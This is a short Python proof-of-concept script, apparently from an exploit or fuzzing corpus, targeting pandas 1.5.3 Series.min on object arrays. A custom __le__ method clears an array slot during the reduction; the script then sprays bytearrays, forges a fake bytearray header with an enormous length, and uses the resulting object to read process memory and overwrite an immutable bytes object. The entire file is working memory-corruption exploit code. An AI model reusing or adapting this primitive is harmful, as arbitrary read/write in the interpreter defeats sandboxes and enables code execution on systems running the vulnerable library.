# source: pandas 1.5.3 Series.min on object dtype -> numpy minimum.reduce over the Series' own values
# family: compare-only __le__ via ChainMap !=; holder pandas Series.min
# goal: arbitrary memory read/write (reads a Box header, rewrites an immutable bytes object)
import collections
import numpy as np
import pandas as pd


def spoil(k):
    ser.values[1] = 0
    return False


class Quote:
    def __init__(self):
        self.m = collections.ChainMap(filter(spoil, [1]))
        self.n = collections.ChainMap({})

    def __le__(self, other):
        return self.m != self.n


def make():
    return Quote()


class Box:
    __slots__ = ("v",)


def addr_of_type(t):
    y = hash(t) % (1 << 64)
    return ((y << 4) | (y >> 60)) % (1 << 64)


def q(n):
    return n.to_bytes(8, "little")


BA = addr_of_type(bytearray)
a = np.empty(2, dtype=object)
ser = pd.Series(a, copy=False)
drain = [bytearray(632) for _ in range(16)]
ser.values[1] = bytes(600)
ser.values[0] = make()
out = [ser.min()]
buf = bytearray(632)
buf[0:56] = q(1 << 40) + q(BA) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(0)
mem = out[0]
print(type(mem), len(mem) == 1 << 62)


def rd(p):
    return int.from_bytes(mem[p:p + 8], "little")


box = Box()
secret = bytes([73, 77, 77, 85, 84, 65, 66, 76, 69])
box.v = secret
bx = int(repr(box).split(" at ")[1][:-1], 16)
print("Box at", hex(bx), "its type pointer", hex(rd(bx + 8)))
sp = rd(bx + 16)
print("bytes object at", hex(sp), "reads", bytes(mem[sp + 32:sp + 41]))
mem[sp + 32:sp + 41] = bytes([67, 72, 65, 78, 71, 69, 68, 33, 33])
print("immutable bytes now", secret)
